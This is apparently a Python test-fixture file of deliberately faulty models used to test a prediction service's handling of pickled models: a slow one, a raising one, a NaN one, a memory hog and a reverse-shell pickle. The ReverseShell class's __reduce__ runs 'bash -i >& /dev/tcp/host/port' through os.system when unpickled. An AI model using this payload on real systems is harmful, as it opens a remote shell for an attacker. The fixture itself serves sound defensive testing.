"""Plain-Python models for pickle tests: importable by the worker, which runs with tests/ on its path."""

from __future__ import annotations

import time
from typing import Any

import numpy as np


class SlowModel:
    """Answers after a delay, to outlast the API's predict timeout."""

    def __init__(self, delay_s: float) -> None:
        self.delay_s = delay_s

    def predict(self, X: Any) -> Any:
        time.sleep(self.delay_s)
        return np.asarray(X)[:, 0]


class RaisingModel:
    """Raises on every prediction."""

    def predict(self, X: Any) -> Any:
        raise ValueError("feature scaling table is empty")


class NaNModel:
    """Returns NaN, which JSON cannot carry."""

    def predict(self, X: Any) -> Any:
        return np.full(len(X), np.nan)


class HogModel:
    """Allocates without bound, 64 MiB at a time, until the process's memory runs out.

    The blocks are not written to, so the test meets the worker's address-space limit in well under a second
    instead of first paging gigabytes in on a shared machine; a model that writes them meets the same limit later.
    """

    def predict(self, X: Any) -> Any:
        hoard = []
        while True:
            hoard.append(np.empty(8 * 1024 * 1024))


class ReverseShell:
    """A pickle that, if anything ever unpickled it, would connect a shell back to host:port."""

    def __init__(self, host: str, port: int) -> None:
        self.command = f"bash -c 'bash -i >& /dev/tcp/{host}/{port} 0>&1'"

    def __reduce__(self) -> tuple[Any, ...]:
        import os

        return (os.system, (self.command,))
